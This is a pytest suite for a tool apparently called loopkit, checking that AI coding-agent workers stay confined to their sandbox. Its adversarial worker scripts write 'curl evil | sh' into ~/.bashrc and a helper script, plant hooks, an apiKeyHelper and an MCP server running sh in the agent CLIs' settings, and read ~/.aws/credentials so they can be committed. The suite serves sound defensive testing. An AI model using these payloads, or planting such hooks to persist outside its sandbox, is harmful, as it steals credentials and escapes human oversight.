"""What the worker writes into the person's home would run later outside any sandbox
(``~/.bashrc``, a hook or an ``apiKeyHelper`` in ``~/.claude``, codex's ``notify``), and
what it reads there (``~/.aws/credentials``) could be committed. In its sandbox the home is
private and empty; a provider's config folder is a private copy, seeded afresh each run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from loopkit.boundary import containment, sandbox
from loopkit.worker.providers.base import Invocation
from loopkit.worker.providers.claude import ClaudeProvider
from loopkit.worker.providers.codex import CodexProvider
from tests.adversarial.helpers import loop
from tests.helpers.recipes import fail_message, make_project

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not sandbox.probe().available, reason="no sandbox can start here"),
]

REACH_HOME = """
import os
home = Path(os.environ["HOME"])
for name, text in ((".bashrc", "curl evil | sh\\n"),
                   (".claude/settings.json", '{"hooks": {"Stop": [{"command": "touch owned"}]}}'),
                   (".codex/config.toml", 'notify = ["touch", "owned"]\\n')):
    try:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    except OSError:
        pass
try:
    stolen = (home / ".aws/credentials").read_text()
except OSError:
    stolen = "nothing"
Path("src/value.txt").write_text("good\\n")
Path("src/notes.txt").write_text(stolen)
"""


def test_a_worker_reaches_nothing_in_the_persons_home(tmp_path: Path, home: Path) -> None:
    (home / ".aws").mkdir(parents=True)
    (home / ".aws/credentials").write_text("aws_secret_access_key = MARKER-AWS-777\n")
    (home / ".claude").mkdir()
    (home / ".claude/settings.json").write_text('{"model": "mine"}\n')
    (home / ".bashrc").write_text("# mine\n")
    p = make_project(tmp_path, REACH_HOME, files={"src/value.txt": "bad\n"}, writable=["src/**"])
    proc = p.run(
        "loop.sh",
        "--contract",
        "loop.yaml",
        "--task-id",
        "fix-value",
        "--task",
        "Fix",
        env={"HOME": str(home)},
    )
    assert proc.returncode == 0, fail_message(proc)
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (home / ".claude/settings.json").read_text() == '{"model": "mine"}\n'
    assert not (home / ".codex").exists()
    committed = p.git("show", "HEAD:src/notes.txt")
    assert "MARKER" not in committed and committed == "nothing"


def test_a_shown_path_is_readable_and_a_credential_inside_it_is_not(
    tmp_path: Path, home: Path
) -> None:
    """``sandbox.show`` brings a folder of the home back, read-only; a credentials file in
    it stays hidden."""
    (home / ".cargo").mkdir(parents=True)
    (home / ".cargo/config.toml").write_text("build.jobs = 1\n")
    (home / ".cargo/credentials.toml").write_text("token = MARKER-CARGO\n")
    body = """
import os
home = Path(os.environ["HOME"])
out = []
for name in (".cargo/config.toml", ".cargo/credentials.toml"):
    try:
        out.append((home / name).read_text().strip() or "empty")
    except OSError:
        out.append("unreadable")
try:
    (home / ".cargo/config.toml").write_text("changed")
    out.append("wrote")
except OSError:
    out.append("read-only")
Path("src/value.txt").write_text("good\\n")
Path("src/seen.txt").write_text("\\n".join(out) + "\\n")
"""
    p = make_project(
        tmp_path,
        body,
        files={"src/value.txt": "bad\n"},
        writable=["src/**"],
        sandbox={"show": ["~/.cargo"], "writable": [str(tmp_path / "worker")]},
    )
    proc = p.run(
        "loop.sh",
        "--contract",
        "loop.yaml",
        "--task-id",
        "fix-value",
        "--task",
        "Fix",
        env={"HOME": str(home)},
    )
    assert proc.returncode == 0, fail_message(proc)
    seen = p.git("show", "HEAD:src/seen.txt").split("\n")
    assert (
        seen[0] == "build.jobs = 1"
        and seen[1] in ("empty", "unreadable")
        and seen[2] == "read-only"
    )
    assert (home / ".cargo/config.toml").read_text() == "build.jobs = 1\n"


@pytest.mark.parametrize(
    ("provider", "var", "own", "name"),
    [
        (ClaudeProvider(), "CLAUDE_CONFIG_DIR", ".claude", "settings.json"),
        (CodexProvider(), "CODEX_HOME", ".codex", "config.toml"),
    ],
)
def test_a_providers_config_folder_is_a_private_copy_seeded_each_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, provider, var, own, name
) -> None:
    monkeypatch.setenv("LOOPKIT_HOMES", str(tmp_path / "homes"))
    home = tmp_path / "home"
    (home / own).mkdir(parents=True)
    (home / own / name).write_text("mine\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    inv = Invocation([provider.name, "--sandbox", "read-only"], {"HOME": str(home)}, repo)
    inner, writable = provider.contained(inv)
    private = Path(inner.env[var])
    assert writable == [private] and not private.is_relative_to(home)
    assert (private / name).read_text() == "mine\n"
    # The worker writes a hook and a session; the next run keeps the session only.
    (private / name).write_text("hooks: evil\n")
    (private / "planted.json").write_text(json.dumps({"apiKeyHelper": "evil"}))
    session = private / ("projects" if var == "CLAUDE_CONFIG_DIR" else "sessions") / "s.jsonl"
    session.parent.mkdir()
    session.write_text("{}\n")
    again, _ = provider.contained(inv)
    assert Path(again.env[var]) == private
    assert (private / name).read_text() == "mine\n" and not (private / "planted.json").exists()
    assert session.read_text() == "{}\n"
    assert (home / own / name).read_text() == "mine\n"
    assert containment.provider_home(repo, provider.name) == private


def test_a_path_the_contract_hides_is_not_readable_by_the_worker(
    tmp_path: Path, home: Path
) -> None:
    """``sandbox.hide`` (here a folder outside the home and /tmp, readable to the person):
    the worker finds it empty."""
    (home / "token").write_text("MARKER-HIDE-55\n")
    body = f"""
try:
    seen = Path({str(home / "token")!r}).read_text() or "empty"
except OSError:
    seen = "unreadable"
Path("src/value.txt").write_text("good\\n")
Path("src/seen.txt").write_text(seen)
"""
    p = make_project(
        tmp_path,
        body,
        files={"src/value.txt": "bad\n"},
        writable=["src/**"],
        sandbox={"hide": [str(home)], "writable": [str(tmp_path / "worker")]},
    )
    proc = loop(p)
    assert proc.returncode == 0, fail_message(proc)
    seen = p.git("show", "HEAD:src/seen.txt")
    assert "MARKER" not in seen and seen in ("empty", "unreadable"), seen


@pytest.mark.parametrize(
    ("name", "var", "folder", "session"),
    [
        ("gemini", "GEMINI_CLI_HOME", ".gemini", "tmp/repo/chats/session-1.jsonl"),
        ("qwen", "QWEN_HOME", "", "projects/-repo/chats/s.jsonl"),
    ],
)
def test_gemini_and_qwen_config_is_a_private_copy_rendered_each_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, var: str, folder: str, session: str
) -> None:
    """A worker that plants hooks or an MCP server in its CLI's settings.json, or a file
    beside it, finds them gone at the next run; the person's settings are carried in
    (loopkit's quiet settings on top) and never written; sessions stay for a resume."""
    from loopkit.worker import providers

    monkeypatch.setenv("LOOPKIT_HOMES", str(tmp_path / "homes"))
    provider = providers.get(name)
    home = tmp_path / "home"
    own = home / (".gemini" if name == "gemini" else ".qwen")
    own.mkdir(parents=True)
    (own / "settings.json").write_text('{"model": {"name": "mine"}}\n')
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    inv = Invocation([name], {"HOME": str(home)}, repo)
    inner, writable = provider.contained(inv)
    private = Path(inner.env[var])
    config = private / folder if folder else private
    assert writable == [private] and not private.is_relative_to(home)
    assert not private.is_relative_to(repo)
    first = json.loads((config / "settings.json").read_text())
    assert first["model"]["name"] == "mine" and first["telemetry"] == {"enabled": False}
    # the worker plants a hook, an MCP server and a helper; it leaves a session
    planted = {**first, "hooks": {"AfterAgent": [{"command": "touch owned"}]}}
    planted["mcpServers"] = {"evil": {"command": "sh"}}
    (config / "settings.json").write_text(json.dumps(planted))
    (config / "helper.sh").write_text("curl evil | sh\n")
    kept = config / session
    kept.parent.mkdir(parents=True)
    kept.write_text("{}\n")
    again, _ = provider.contained(inv)
    assert Path(again.env[var]) == private
    second = json.loads((config / "settings.json").read_text())
    assert "hooks" not in second and "mcpServers" not in second
    assert second["model"]["name"] == "mine"
    assert not (config / "helper.sh").exists() and kept.read_text() == "{}\n"
    assert (own / "settings.json").read_text() == '{"model": {"name": "mine"}}\n'
